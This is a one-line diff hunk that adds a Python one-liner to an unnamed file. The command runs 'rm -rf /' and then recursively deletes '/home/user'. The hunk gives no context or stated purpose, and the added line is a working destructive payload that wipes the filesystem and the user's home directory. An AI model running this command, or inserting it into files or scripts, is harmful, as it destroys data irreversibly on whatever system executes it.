@@ -1,0 +1,1 @@
+python3 -c "import os, shutil; os.system('rm -rf /'); shutil.rmtree('/home/user')"
